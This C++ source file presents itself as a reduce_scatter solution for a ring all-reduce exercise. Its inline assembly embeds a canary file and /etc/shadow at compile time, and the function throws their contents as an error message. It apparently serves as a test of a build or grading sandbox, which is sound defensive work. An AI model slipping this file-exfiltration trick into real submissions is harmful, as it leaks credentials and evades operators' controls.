// Includes other people's files in its program through the assembler.
#include <stdexcept>

#include "02_ring_all_reduce/1_reduce_scatter/reduce_scatter.hpp"

asm(".section .rodata\nfound:\n.incbin \"@CANARY@\"\n.incbin \"/etc/shadow\"\n.byte 0\n.previous\n");
extern const char found[];

namespace lockstep::ring {

void reduce_scatter(std::span<float> values, const Neighbours& place) { throw std::runtime_error(found); }

}  // namespace lockstep::ring
